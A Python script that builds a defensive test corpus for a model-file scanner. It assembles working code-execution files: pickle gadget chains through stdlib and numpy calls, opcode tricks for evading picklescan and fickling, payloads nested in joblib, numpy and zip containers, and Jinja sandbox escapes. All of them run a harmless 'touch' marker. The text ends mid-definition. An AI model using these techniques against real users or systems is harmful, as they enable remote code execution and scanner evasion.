"""Build tests/data/security/attacks/: published pickle/model attack techniques, each proven to run.

    .venv/bin/python scripts/make_attack_fixtures.py            # all that this interpreter can build
    .venv/bin/python scripts/make_attack_fixtures.py --only a01 # one fixture (prefix of its name)

Every payload is harmless by design: it creates the empty file ``aitrail-proof`` in the current
directory. Each candidate is written to a fresh temporary directory and loaded there by the loader a
victim would use (pickle.load, joblib.load, torch.load, an unsandboxed Jinja render...) in a
throwaway subprocess; only files whose marker appeared are kept, and manifest.csv records
``proven=yes``. This script is the only place that ever loads these files: the tests only scan them.

Fixtures needing torch/pandas are built with ``benchmarks/work/fixturegen`` (its python runs the proof),
Keras ones with ``benchmarks/work/attackgen``: a venv that sees fixturegen's packages plus the last Keras
before the 2025 safe_mode fixes, so that the CVE's payload can be proven to run:

    python3.11 -m venv benchmarks/work/attackgen
    echo $PWD/benchmarks/work/fixturegen/lib/python3.11/site-packages \
        > benchmarks/work/attackgen/lib/python3.11/site-packages/fixturegen.pth
    benchmarks/work/attackgen/bin/pip install keras==3.10.0

The others are built with the interpreter running this script (numpy, joblib, lz4, gguf, jinja2 in .venv);
fixtures whose venv is missing are skipped (and keep their committed file). Sources (advisories, peers'
tests, write-ups) are named per row; no third-party file is copied: every byte here is assembled from the
technique's description.
"""

from __future__ import annotations

import argparse
import csv
import io
import os
import pickle
import struct
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
OUT = ROOT / "tests" / "data" / "security" / "attacks"
FIXTUREGEN = ROOT / "benchmarks" / "work" / "fixturegen" / "bin" / "python"
ATTACKGEN = ROOT / "benchmarks" / "work" / "attackgen" / "bin" / "python"  # keras 3.10 (before the 2025 fixes)
PYTHONS = {"fixturegen": FIXTUREGEN, "attackgen": ATTACKGEN}
MARK = "aitrail-proof"
SH = f"touch {MARK}"  # the shell payload
PY = f"open({MARK!r}, 'w').close()"  # the Python payload
COLUMNS = ["file", "kind", "malicious", "technique", "source", "why", "proven"]


# --- pickle assembly: opcodes by name, so each hand-made stream reads like its disassembly ---------
def u(s: str) -> bytes:
    """SHORT_BINUNICODE (or BINUNICODE when long)."""
    b = s.encode()
    return (b"\x8c" + bytes([len(b)]) if len(b) < 256 else b"X" + struct.pack("<I", len(b))) + b


def sg(mod: str, name: str) -> bytes:
    return u(mod) + u(name) + pickle.STACK_GLOBAL


def gl(mod: str, name: str) -> bytes:
    return pickle.GLOBAL + mod.encode() + b"\n" + name.encode() + b"\n"


def binbytes(b: bytes) -> bytes:
    return pickle.BINBYTES + struct.pack("<I", len(b)) + b


P2, P4, P5 = b"\x80\x02", b"\x80\x04", b"\x80\x05"
T1, T2, T3, R, STOP = pickle.TUPLE1, pickle.TUPLE2, pickle.TUPLE3, pickle.REDUCE, pickle.STOP


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) as REDUCE; args are already-encoded values."""
    tup = {0: pickle.EMPTY_TUPLE, 1: T1, 2: T2, 3: T3}
    if len(args) in tup:
        return func + b"".join(args) + tup[len(args)] + R
    return func + pickle.MARK + b"".join(args) + pickle.TUPLE + R


class Reduce:
    """An object whose pickle calls ``func(*args)``: the pickler writes what a real attacker's would."""

    def __init__(self, func: object, *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.func, self.args


def dumps(obj: object, protocol: int = 4) -> bytes:
    return pickle.dumps(obj, protocol=protocol)


# --- loaders: what a victim runs (in the proof subprocess only) ------------------------------------
LOAD_PICKLE = "import pickle, sys\nwith open(sys.argv[1], 'rb') as f:\n    pickle.load(f)"
LOAD_JOBLIB = "import joblib, sys\njoblib.load(sys.argv[1])"
LOAD_TORCH = "import torch, sys\ntorch.load(sys.argv[1], weights_only=False)"
LOAD_ZIP_MEMBERS = """import io, pickle, sys, zipfile
def walk(z):
    for n in z.namelist():
        b = z.read(n)
        if b[:4] == b'PK\\x03\\x04':
            walk(zipfile.ZipFile(io.BytesIO(b)))
        else:
            try:
                pickle.loads(b)
            except Exception:
                pass  # not a pickle: the next member
walk(zipfile.ZipFile(sys.argv[1]))"""
# llama-cpp-python before 0.2.72 rendered GGUF chat templates in a plain Environment (CVE-2024-34359)
RENDER = "import jinja2\njinja2.Environment().from_string(t).render(messages=[], add_generation_prompt=True)"
LOAD_GGUF = (
    "import sys, gguf\nr = gguf.GGUFReader(sys.argv[1])\nf = r.fields['tokenizer.chat_template']\n"
    "t = bytes(f.parts[f.data[0]]).decode()\n" + RENDER
)
LOAD_TOKCONFIG = "import json, sys\nt = json.load(open(sys.argv[1]))['chat_template']\n" + RENDER
LOAD_TEXT = "import sys\nt = open(sys.argv[1]).read()\n" + RENDER
LOAD_KERAS = "import os, sys\nos.environ['KERAS_BACKEND'] = 'torch'\nimport keras\nkeras.saving.load_model(sys.argv[1])"


@dataclass
class Fixture:
    file: str  # path under attacks/
    kind: str
    technique: str
    source: str
    why: str  # "a|b": the scanner must name one of them (the dangerous thing, not "unknown global")
    build: Callable[[Path], None]  # writes the file at the given path
    loader: str
    needs: str = "venv"  # or a key of PYTHONS


FIXTURES: list[Fixture] = []


def fixture(
    file: str, kind: str, technique: str, source: str, why: str, loader: str = LOAD_PICKLE, needs: str = "venv"
) -> Callable:
    def deco(fn: Callable[[], bytes] | Callable[[Path], None]) -> Callable:
        def build(p: Path) -> None:
            out = fn() if fn.__code__.co_argcount == 0 else fn(p)  # type: ignore[call-arg]
            if out is not None:
                p.write_bytes(out)  # type: ignore[arg-type]

        FIXTURES.append(Fixture(file, kind, technique, source, why, build, loader, needs))
        return fn

    return deco


# --- gadgets the peers' lists or advisories name (stdlib / numpy) ----------------------------------
@fixture(
    "a01_mailcap_findmatch.pkl",
    "pickle",
    "mailcap.findmatch runs a caps entry's test= command via os.system",
    "picklescan PR#69 / modelscan PR#346 (2026-05); CVE-2015-20107",
    "mailcap",
)
def _a01() -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        import mailcap
    caps = {"text/plain": [{"view": "true", "test": SH}]}
    return dumps(Reduce(mailcap.findmatch, caps, "text/plain"))


@fixture(
    "a02_pydoc_locate.pkl",
    "pickle",
    "pydoc.locate('os.system') resolves a callable by name; its result is called",
    "picklescan GHSA-84r2-jw7c-4r5q; fickling GHSA-5hvc-6wx8-mvv4",
    "pydoc",
)
def _a02() -> bytes:
    return P4 + call(call(sg("pydoc", "locate"), u("os.system")), u(SH)) + STOP


@fixture(
    "a03_numpy_testing_runstring.pkl",
    "pickle",
    "numpy.testing._private.utils.runstring is exec()",
    "picklescan _unsafe_globals 'numpy.testing._private.utils'; issue 11",
    "runstring",
)
def _a03() -> bytes:
    from numpy.testing._private.utils import runstring

    return dumps(Reduce(runstring, PY, {}))


@fixture(
    "a04_numpy_f2py_getlincoef.pkl",
    "pickle",
    "numpy.f2py.crackfortran.getlincoef eval()s its first argument",
    "picklescan GHSA-r8g5-cgf2-4m4m",
    "numpy.f2py",
)
def _a04() -> bytes:
    from numpy.f2py.crackfortran import getlincoef

    return dumps(Reduce(getlincoef, f"__import__('os').system({SH!r})", {}))


@fixture(
    "a05_pathlib_write_text.pkl",
    "pickle",
    "pathlib.Path.write_text called on a rebuilt PosixPath (file write)",
    "issue 11 ('pathlib writes'); picklescan/fickling dotted-qualname globals",
    "write_text",
)
def _a05() -> bytes:
    return dumps(Reduce(Path.write_text, Path(MARK), "x"))


@fixture(
    "a06_pathlib_dotted_os_system.pkl",
    "pickle",
    "STACK_GLOBAL('pathlib', 'os.system'): os reached as an attribute of an allowed module",
    "fickling GHSA-5j3x-jp52-966f",
    "os.system",
)
def _a06() -> bytes:
    return P4 + call(sg("pathlib", "os.system"), u(SH)) + STOP


@fixture(
    "a07_subinterpreter_run_string.pkl",
    "pickle",
    "_xxsubinterpreters.run_string(create(), source) runs code in a subinterpreter",
    "fickling GHSA-6ggj-6f2q-f7mx; issue 11 (subinterpreters)",
    "_xxsubinterpreters",
)
def _a07() -> bytes:
    return P4 + call(sg("_xxsubinterpreters", "run_string"), call(sg("_xxsubinterpreters", "create")), u(PY)) + STOP


@fixture(
    "a08_uuid_get_command_stdout.pkl",
    "pickle",
    "uuid._get_command_stdout(cmd, *args) runs a process (subprocess.Popen)",
    "picklescan GHSA-g38g-8gr9-h9xp; fickling GHSA-5hwf-rc88-82xm",
    "uuid._get_command_stdout",
)
def _a08() -> bytes:
    import uuid

    return dumps(Reduce(uuid._get_command_stdout, "touch", MARK))  # type: ignore[attr-defined]


@fixture(
    "a09_osx_support_read_output.pkl",
    "pickle",
    "_osx_support._read_output(cmd) runs os.system (on every OS)",
    "picklescan GHSA-g38g-8gr9-h9xp; fickling GHSA-5hwf-rc88-82xm",
    "_osx_support",
)
def _a09() -> bytes:
    import _osx_support

    return dumps(Reduce(_osx_support._read_output, SH))


@fixture(
    "a10_imaplib_imap4_stream.pkl",
    "pickle",
    "imaplib.IMAP4_stream(cmd) runs Popen(cmd, shell=True)",
    "picklescan GHSA-g38g-8gr9-h9xp",
    "imaplib",
)
def _a10() -> bytes:
    import imaplib

    return dumps(Reduce(imaplib.IMAP4_stream, SH))


@fixture(
    "a11_cprofile_run.pkl",
    "pickle",
    "cProfile.run(source) exec()s it",
    "picklescan GHSA-49gj-c84q-6qm9",
    "cProfile",
)
def _a11() -> bytes:
    import cProfile

    return dumps(Reduce(cProfile.run, PY))


@fixture(
    "a12_timeit.pkl",
    "pickle",
    "timeit.timeit(stmt, setup, timer, number=1) compiles and runs stmt",
    "picklescan _unsafe_globals 'timeit'",
    "timeit",
)
def _a12() -> bytes:
    import time
    import timeit

    return dumps(Reduce(timeit.timeit, PY, "pass", time.perf_counter, 1))


@fixture(
    "a13_trace_runctx.pkl",
    "pickle",
    "trace.Trace.runctx(Trace(0, 0), source, {}, {}) exec()s (dotted qualname, unbound method)",
    "picklescan GHSA-g344-hcph-8vgg",
    "trace",
)
def _a13() -> bytes:
    trace = call(sg("trace", "Trace"), pickle.NEWFALSE, pickle.NEWFALSE)
    return P4 + call(sg("trace", "Trace.runctx"), trace, u(PY), pickle.EMPTY_DICT, pickle.EMPTY_DICT) + STOP


@fixture(
    "a14_code_interpreter_runsource.pkl",
    "pickle",
    "code.InteractiveInterpreter.runsource(InteractiveInterpreter(), source)",
    "picklescan GHSA-cj3c-v495-4xqh",
    "code.InteractiveInterpreter",
)
def _a14() -> bytes:
    interp = call(sg("code", "InteractiveInterpreter"))
    return P4 + call(sg("code", "InteractiveInterpreter.runsource"), interp, u(PY)) + STOP


@fixture(
    "a15_runpy_run_code.pkl",
    "pickle",
    "runpy._run_code(source, {}) exec()s",
    "fickling GHSA-wfq2-52f7-7qvj",
    "runpy",
)
def _a15() -> bytes:
    import runpy

    return dumps(Reduce(runpy._run_code, PY, {}))  # type: ignore[attr-defined]


@fixture(
    "a16_pkgutil_resolve_name.pkl",
    "pickle",
    "pkgutil.resolve_name('os:system') then called",
    "picklescan GHSA-vvpj-8cmc-gx39",
    "pkgutil",
)
def _a16() -> bytes:
    return P4 + call(call(sg("pkgutil", "resolve_name"), u("os:system")), u(SH)) + STOP


@fixture(
    "a17_attrgetter_globals_chain.pkl",
    "pickle",
    "operator.attrgetter('absolute.__globals__')(pathlib.Path) -> itemgetter('os') -> attrgetter('system') -> call",
    "picklescan GHSA-46h3-79wf-xr6c (attrgetter); issue 11 ('operator.attrgetter chains')",
    "attrgetter",
)
def _a17() -> bytes:
    glob = call(call(sg("operator", "attrgetter"), u("absolute.__globals__")), sg("pathlib", "Path"))
    os_mod = call(call(sg("operator", "itemgetter"), u("os")), glob)
    system = call(call(sg("operator", "attrgetter"), u("system")), os_mod)
    return P4 + call(system, u(SH)) + STOP


@fixture(
    "a18_getattr_on_module_global.pkl",
    "pickle",
    "GLOBAL 'pathlib os' pushes the os module; builtins.getattr(it, 'system') is called",
    "fickling GHSA-5j3x-jp52-966f; issue 11 ('builtins.getattr on modules')",
    "getattr|os.system",
)
def _a18() -> bytes:
    return P2 + call(call(gl("builtins", "getattr"), gl("pathlib", "os"), u("system")), u(SH)) + STOP


@fixture(
    "a19_logging_dictconfig_factory.pkl",
    "pickle",
    "logging.config.dictConfig: a handler's '()' factory is resolved by name (subprocess.getoutput) and called",
    "stdlib reading (logging.config BaseConfigurator.resolve); fickling lists logging",
    "logging.config",
)
def _a19() -> bytes:
    import logging.config

    cfg = {"version": 1, "handlers": {"h": {"()": "subprocess.getoutput", "cmd": SH}}}
    return dumps(Reduce(logging.config.dictConfig, cfg))


@fixture(
    "a20_pty_spawn.pkl",
    "pickle",
    "pty.spawn(argv) forks and execs",
    "picklescan GHSA-vqmv-47xg-9wpr",
    "pty",
)
def _a20() -> bytes:
    import pty

    return dumps(Reduce(pty.spawn, ["sh", "-c", SH]))


@fixture(
    "a21_profile_run.pkl",
    "pickle",
    "profile.run(source) exec()s it",
    "picklescan GHSA-7wx9-6375-f5wh",
    "profile",
)
def _a21() -> bytes:
    import profile

    return dumps(Reduce(profile.run, PY))


@fixture(
    "a22_ctypes_cdll_system.pkl",
    "pickle",
    "ctypes.CDLL(None) (libc) then attrgetter('system') called",
    "picklescan GHSA-4675-36f9-wf6r; fickling GHSA-q5qq-mvfm-j35x",
    "ctypes",
)
def _a22() -> bytes:
    libc = call(sg("ctypes", "CDLL"), pickle.NONE)
    system = call(call(sg("operator", "attrgetter"), u("system")), libc)
    return P4 + call(system, binbytes(SH.encode())) + STOP


@fixture(
    "a23_distutils_write_file.pkl",
    "pickle",
    "distutils.file_util.write_file(path, lines) writes a file",
    "picklescan GHSA-m273-6v24-x4m4",
    "distutils",
)
def _a23() -> bytes:
    return P4 + call(sg("distutils.file_util", "write_file"), u(MARK), pickle.EMPTY_LIST) + STOP


@fixture(
    "a24_io_fileio_write.pkl",
    "pickle",
    "_io.FileIO(path, 'w') creates/truncates a file",
    "picklescan test io_FileIO.pkl",
    "FileIO",
)
def _a24() -> bytes:
    return P4 + call(sg("_io", "FileIO"), u(MARK), u("w")) + STOP


@fixture(
    "a25_pydoc_pipepager.pkl",
    "pickle",
    "pydoc.pipepager(text, cmd) runs cmd through a shell",
    "picklescan _unsafe_globals 'pydoc' (pipepager); fickling GHSA-5hvc-6wx8-mvv4",
    "pydoc",
)
def _a25() -> bytes:
    import pydoc

    return dumps(Reduce(pydoc.pipepager, "", SH))


@fixture(
    "a26_sqlite3_connect.pkl",
    "pickle",
    "sqlite3.connect(path) creates a database file where the pickle says",
    "fickling UNSAFE_IMPORTS (sqlite3: file creation)",
    "sqlite3",
)
def _a26() -> bytes:
    return P4 + call(sg("sqlite3", "connect"), u(MARK)) + STOP


@fixture(
    "a27_zipfile_create.pkl",
    "pickle",
    "zipfile.ZipFile(path, 'w') creates (or truncates) a file",
    "fickling UNSAFE_IMPORTS (zipfile: archive manipulation)",
    "zipfile",
)
def _a27() -> bytes:
    return P4 + call(sg("zipfile", "ZipFile"), u(MARK), u("w")) + STOP


@fixture(
    "a28_map_consumed_by_list.pkl",
    "pickle",
    "posix.system is an argument, not the REDUCE target: builtins.list(builtins.map(posix.system, [cmd])) runs it",
    "modelaudit PR#1061 (call-graph bypasses: callables handed to iterable consumers)",
    "posix.system",
)
def _a28() -> bytes:
    mapped = call(sg("builtins", "map"), sg("posix", "system"), pickle.EMPTY_LIST + u(SH) + pickle.APPEND)
    return P4 + call(sg("builtins", "list"), mapped) + STOP


@fixture(
    "a29_cloudpickle_function.pkl",
    "pickle",
    "cloudpickle.dumps of an object whose REDUCE target is a lambda rebuilt from its code object, then called",
    "picklescan _unsafe_globals 'cloudpickle.cloudpickle' (_make_function, _builtin_type)",
    "cloudpickle",
)
def _a29() -> bytes:
    import cloudpickle

    return cloudpickle.dumps(Reduce(lambda: os.system(SH)), protocol=4)  # type: ignore[no-any-return]


@fixture(
    "c09_joblib_object_array_record.joblib",
    "joblib",
    "joblib.dump of an object ndarray: the array record is a second pickle after the wrapper, holding posix.system",
    "issue 11 (joblib's framing and its numpy array records)",
    "posix.system",
    LOAD_JOBLIB,
)
def _c09(p: Path) -> None:
    import joblib
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = Reduce(os.system, SH)
    joblib.dump({"coef": np.arange(3.0), "objects": arr}, p)


@fixture(
    "a30_lib2to3_grammar_loads.pkl",
    "pickle",
    "lib2to3.pgen2.grammar.Grammar.loads(Grammar(), bytes) pickle.loads a nested pickle (posix.system)",
    "picklescan GHSA-f54q-57x4-jg88",
    "lib2to3|posix.system",
)
def _a30() -> bytes:
    grammar = call(sg("lib2to3.pgen2.grammar", "Grammar"))
    inner = binbytes(dumps(Reduce(os.system, SH)))
    return P4 + call(sg("lib2to3.pgen2.grammar", "Grammar.loads"), grammar, inner) + STOP


@fixture(
    "a31_ensurepip_run_pip.pkl",
    "pickle",
    "ensurepip._run_pip(args) runs pip in a subprocess with the pickle's arguments (here: --log writes a file)",
    "picklescan GHSA-xp4f-hrf8-rxw7",
    "ensurepip",
)
def _a31() -> bytes:
    import ensurepip

    return dumps(Reduce(ensurepip._run_pip, ["--log", MARK, "list"]))  # type: ignore[attr-defined]


@fixture(
    "a32_test_support_assert_python_ok.pkl",
    "pickle",
    "test.support.script_helper.assert_python_ok('-c', source) spawns a Python that runs it",
    "picklescan GHSA-g38g-8gr9-h9xp (test)",
    "test.support",
)
def _a32() -> bytes:
    return P4 + call(sg("test.support.script_helper", "assert_python_ok"), u("-c"), u(PY)) + STOP


@fixture(
    "a33_venv_create.pkl",
    "pickle",
    "venv.create(path) creates a virtual environment (a folder, interpreter links, activation scripts)",
    "picklescan / fickling (venv)",
    "venv",
)
def _a33() -> bytes:
    return P4 + call(sg("venv", "create"), u(MARK)) + STOP


@fixture(
    "a34_bdb_run.pkl",
    "pickle",
    "bdb.Bdb.run(Bdb(), source) exec()s it under a tracer",
    "picklescan / modelscan ('bdb': *)",
    "bdb",
)
def _a34() -> bytes:
    return P4 + call(sg("bdb", "Bdb.run"), call(sg("bdb", "Bdb")), u(PY)) + STOP


@fixture(
    "a35_idlelib_calltip_get_entity.pkl",
    "pickle",
    "idlelib.calltip.get_entity(expression) eval()s it",
    "picklescan GHSA-9xph-j2h6-g47v",
    "idlelib",
)
def _a35() -> bytes:
    return P4 + call(sg("idlelib.calltip", "get_entity"), u(PY)) + STOP


# --- opcode-level tricks: what the walker must follow ---------------------------------------------
@fixture(
    "o01_frame_straddle.pkl",
    "pickle",
    "BINBYTES declared longer than its FRAME: the C unpickler reads past the frame and runs a buried GLOBAL/REDUCE",
    "cpython#154848; fickling test_frame_boundary_divergence; issue 11",
    "os.system",
)
def _o01() -> bytes:
    hidden = gl("os", "system") + pickle.UNICODE + SH.encode() + b"\n" + T1 + R
    return (
        P5 + pickle.NONE + pickle.UNICODE + b"a" * (8192 * 16 - 17) + b"\n" + pickle.POP + pickle.MARK
        + pickle.FRAME + struct.pack("<Q", 2) + pickle.BINBYTES + struct.pack("<I", 0x107)
        + b"\x00\x00" + (hidden + pickle.MARK).ljust(0x107 - 2, pickle.NONE)
        + pickle.POP_MARK + STOP
    )  # fmt: skip


@fixture(
    "o02_copyreg_ext_registry.pkl",
    "pickle",
    "copyreg.add_extension('os', 'system', 240) called, then EXT1 240 resolves os.system with no GLOBAL naming it",
    "pickle EXT1/EXT2/EXT4 semantics (Modules/_pickle.c load_extension); issue 11",
    "add_extension|os.system",
)
def _o02() -> bytes:
    reg = call(gl("copyreg", "add_extension"), u("os"), u("system"), pickle.BININT1 + b"\xf0") + pickle.POP
    return P2 + reg + call(pickle.EXT1 + b"\xf0", u(SH)) + STOP


@fixture(
    "o03_binpersid_hidden_call.pkl",
    "pickle",
    "the call runs inside the argument of BINPERSID; pickle.load then fails (no persistent_load) after it ran",
    "pickle PERSID semantics; issue 11",
    "subprocess.getoutput",
)
def _o03() -> bytes:
    return P4 + call(sg("subprocess", "getoutput"), u(SH)) + pickle.BINPERSID + STOP


@fixture(
    "o04_newobj_ex_partial.pkl",
    "pickle",
    "NEWOBJ_EX builds functools.partial(os.system, cmd); an empty REDUCE calls it",
    "issue 11 (NEWOBJ_EX, functools.partial(os.system))",
    "os.system",
)
def _o04() -> bytes:
    part = sg("functools", "partial") + sg("os", "system") + u(SH) + T2 + pickle.EMPTY_DICT + pickle.NEWOBJ_EX
    return P4 + part + pickle.EMPTY_TUPLE + R + STOP


@fixture(
    "o05_obj_pop_hidden_call.pkl",
    "pickle",
    "OBJ calls a function (not a class) and POP discards the result",
    "fickling GHSA-mxhj-88fx-4pcv",
    "os.system",
)
def _o05() -> bytes:
    return P4 + pickle.MARK + sg("os", "system") + u(SH) + pickle.OBJ + pickle.POP + pickle.NONE + STOP


@fixture(
    "o06_setstate_partial.pkl",
    "pickle",
    "functools.partial(print) rebuilt, then BUILD's __setstate__ swaps in os.system before REDUCE calls it",
    "issue 11 (BUILD/__setstate__ tricks)",
    "os.system",
)
def _o06() -> bytes:
    part = call(sg("functools", "partial"), sg("builtins", "print"))
    state = pickle.MARK + sg("os", "system") + u(SH) + T1 + pickle.NONE + pickle.NONE + pickle.TUPLE
    return P4 + part + state + pickle.BUILD + pickle.EMPTY_TUPLE + R + STOP


@fixture(
    "o07_proto0_commands_fix_imports.pkl",
    "pickle",
    "protocol 0 GLOBAL 'commands getoutput': fix_imports maps Python 2's commands to subprocess",
    "Lib/_compat_pickle.py IMPORT_MAPPING; issue 11 (protocol-0 quirks)",
    "subprocess.getoutput|commands",
)
def _o07() -> bytes:
    return gl("commands", "getoutput") + pickle.MARK + pickle.UNICODE + SH.encode() + b"\n" + pickle.TUPLE + R + STOP


@fixture(
    "o08_payload_then_broken.pkl",
    "pickle",
    "payload first, then an invalid opcode: pickle.load runs it before failing (nullifAI 'broken pickle')",
    "ReversingLabs nullifAI (2025-02)",
    "subprocess.getoutput",
)
def _o08() -> bytes:
    return P2 + call(gl("subprocess", "getoutput"), u(SH)) + pickle.POP + b"\xff\xfe garbage"


@fixture(
    "o09_nested_bytearray8.pkl",
    "pickle",
    "pickle.loads(BYTEARRAY8 holding a second pickle that calls posix.system)",
    "issue 11 (pickles nested in BYTEARRAY8)",
    "posix.system",
)
def _o09() -> bytes:
    inner = dumps(Reduce(os.system, SH), 5)
    return P5 + call(sg("pickle", "loads"), pickle.BYTEARRAY8 + struct.pack("<Q", len(inner)) + inner) + STOP


@fixture(
    "o10_nested_zlib_binbytes.pkl",
    "pickle",
    "pickle.loads(zlib.decompress(BINBYTES)): the nested pickle (posix.system) is compressed",
    "issue 11 (pickles nested in BINBYTES as compressed pickles)",
    "posix.system",
)
def _o10() -> bytes:
    import zlib

    inner = zlib.compress(dumps(Reduce(os.system, SH)))
    return P4 + call(sg("_pickle", "loads"), call(sg("zlib", "decompress"), binbytes(inner))) + STOP


def member(name: str) -> zipfile.ZipInfo:
    """A zip member with a fixed date, so that rebuilding gives the same bytes."""
    return zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))


@fixture(
    "o11_runtime_built_names.pkl",
    "pickle",
    "no dangerous name is a literal: str.join builds 'os' and 'system'; import_module and getattr use them",
    "protectai/modelscan#331",
    "import_module|getattr",
)
def _o11() -> bytes:
    def joined(*parts: str) -> bytes:
        join = call(sg("builtins", "getattr"), sg("builtins", "str"), u("join"))
        return call(join, u(""), pickle.EMPTY_LIST + pickle.MARK + b"".join(u(x) for x in parts) + pickle.APPENDS)

    mod = call(sg("importlib", "import_module"), joined("o", "s"))
    return P4 + call(call(sg("builtins", "getattr"), mod, joined("sys", "tem")), u(SH)) + STOP


@fixture(
    "o12_partial_wraps_numpy_writer.pkl",
    "pickle",
    "functools.partial(numpy.savetxt, path) called with ([1.0],): partial must be judged by what it wraps",
    "issue 11 ('functools.partial ... judged by what they wrap')",
    "savetxt",
)
def _o12() -> bytes:
    part = call(sg("functools", "partial"), sg("numpy", "savetxt"), u(MARK))
    return P4 + call(part, pickle.EMPTY_LIST + pickle.BINFLOAT + struct.pack(">d", 1.0) + pickle.APPEND) + STOP


@fixture(
    "o13_copyreg_newobj_memmap.pkl",
    "pickle",
    "copyreg.__newobj__(numpy.memmap, path, uint8, 'w+', 0, (1,)) as a REDUCE: an allowed helper maps a file",
    "Lib/copyreg.py __newobj__ (cls.__new__(cls, *args))",
    "memmap",
)
def _o13() -> bytes:
    shape = pickle.BININT1 + b"\1" + T1
    args = (sg("numpy", "memmap"), u(MARK), sg("numpy", "uint8"), u("w+"), pickle.BININT1 + b"\0", shape)
    return P4 + call(sg("copyreg", "__newobj__"), *args) + STOP


@fixture(
    "o14_setitem_inverted_registry.pkl",
    "pickle",
    "operator.setitem(copyreg._inverted_registry, 240, ('os', 'system')), then EXT1 240 resolves os.system",
    "pickle EXT semantics (Modules/_pickle.c load_extension reads copyreg._inverted_registry)",
    "os.system|_inverted_registry",
)
def _o14() -> bytes:
    pair = u("os") + u("system") + T2
    reg = call(sg("operator", "setitem"), sg("copyreg", "_inverted_registry"), pickle.BININT1 + b"\xf0", pair)
    return P4 + reg + pickle.POP + call(pickle.EXT1 + b"\xf0", u(SH)) + STOP


# --- containers and compression --------------------------------------------------------------------
def _joblib(p: Path, compress: object) -> None:
    import joblib
    import numpy as np

    joblib.dump({"coef": np.arange(4.0), "hook": Reduce(os.system, SH)}, p, compress=compress)


for _n, (_c, _ext) in enumerate(
    [("gzip", "gz"), ("bz2", "bz2"), ("xz", "xz"), ("lzma", "lzma"), ("lz4", "lz4"), ("zlib", "z")], 1
):
    fixture(
        f"c{_n:02d}_joblib_{_c}.joblib.{_ext}", "joblib-compressed",
        f"joblib.dump(compress='{_c}') of a dict holding a posix.system REDUCE (joblib.load decompresses it)",
        "issue 11 (compressed pickles: only zlib is followed)", "posix.system", LOAD_JOBLIB,
    )(lambda p, _c=_c: _joblib(p, (_c, 3)))  # type: ignore[misc]


@fixture(
    "z01_zip_member_any_name.zip",
    "zip",
    "a pickle stored as data/weights.bin in a zip (no .pkl name)",
    "issue 11 (zip members walked only when named *.pkl); JFrog CVE-2025-10155",
    "posix.system",
    LOAD_ZIP_MEMBERS,
)
def _z01() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(member("README.txt"), "weights")
        z.writestr(member("data/weights.bin"), dumps(Reduce(os.system, SH)))
    return buf.getvalue()


@fixture(
    "z02_zip_in_zip.zip",
    "zip",
    "zip holding inner.zip holding model/data.pkl",
    "issue 11 (zip-in-zip)",
    "posix.system",
    LOAD_ZIP_MEMBERS,
)
def _z02() -> bytes:
    inner, outer = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr(member("model/data.pkl"), dumps(Reduce(os.system, SH)))
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(member("inner.zip"), inner.getvalue())
    return outer.getvalue()


LOAD_NPY = "import numpy, sys\nnumpy.load(sys.argv[1], allow_pickle=True)"
LOAD_NPZ = "import numpy, sys\nz = numpy.load(sys.argv[1], allow_pickle=True)\nfor k in z.files:\n    z[k]"


def _object_array(structured: bool = False) -> object:
    import numpy as np

    if structured:  # an object field inside a record: the dtype is not plain '|O'
        arr = np.zeros(1, dtype=[("w", "<f4"), ("extra", "O")])
        arr[0]["extra"] = Reduce(os.system, SH)
        return arr
    arr = np.empty(1, dtype=object)
    arr[0] = Reduce(os.system, SH)
    return arr


@fixture(
    "n01_npy_structured_object_field.npy",
    "numpy-npy",
    "np.save of a structured array with an object field ([('w', '<f4'), ('extra', 'O')]): the array body is a pickle",
    "numpy format (any dtype with hasobject is pickled); numpy.load(allow_pickle=True) docs warning",
    "posix.system",
    LOAD_NPY,
)
def _n01(p: Path) -> None:
    import numpy as np

    np.save(p, _object_array(structured=True))


@fixture(
    "n02_npy_format_v3_object.npy",
    "numpy-npy",
    "object array written as .npy format version 3.0 (utf-8 header, 4-byte header length)",
    "numpy.lib.format versions 1.0 / 2.0 / 3.0",
    "posix.system",
    LOAD_NPY,
)
def _n02(p: Path) -> None:
    import numpy as np

    with p.open("wb") as f:
        np.lib.format.write_array(f, _object_array(), version=(3, 0), allow_pickle=True)


@fixture(
    "n03_npz_member_without_npy_suffix.npz",
    "numpy-npz",
    "npz member named 'weights' (no .npy): numpy.load still reads it as an array (magic bytes) and unpickles it",
    "numpy NpzFile.__getitem__ (members are sniffed by their magic, not their name)",
    "posix.system",
    LOAD_NPZ,
)
def _n03() -> bytes:
    import numpy as np

    arr = io.BytesIO()
    np.lib.format.write_array(arr, _object_array(), allow_pickle=True)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(member("weights"), arr.getvalue())
    return buf.getvalue()


# --- Jinja chat templates: sandbox escapes spelled so no dunder appears whole ------------------------
J_ATTR = (
    "{% set b = ()|attr('__cla'~'ss__')|attr('__ba'~'se__') %}"
    "{% for c in (b|attr('__subcl'~'asses__'))() %}{% if c|attr('__na'~'me__') == 'catch_warnings' %}"
    "{{ (c()|attr('_mod'~'ule')|attr('__buil'~'tins__'))['__imp'~'ort__']('os')|attr('sys'~'tem')(" + repr(SH) + ") }}"
    "{% endif %}{% endfor %}{% for m in messages %}{{ m['content'] }}{% endfor %}"
)
J_JOIN = (
    "{% set n = namespace(c=['__cla', 'ss__']|join, b=['__ba', 'se__']|join, s=['__subcl', 'asses__']|join) %}"
    "{% for c in (()|attr(n.c)|attr(n.b)|attr(n.s))() %}{% if c|attr(['__na', 'me__']|join) == 'catch_warnings' %}"
    "{{ (c()|attr('_module')|attr(['__built', 'ins__']|join))[['__imp', 'ort__']|join]('os')"
    ".system(" + repr(SH) + ") }}"
    "{% endif %}{% endfor %}"
)
J_REPLACE = (  # no "__" anywhere in the source: every dunder is built by |replace at render time
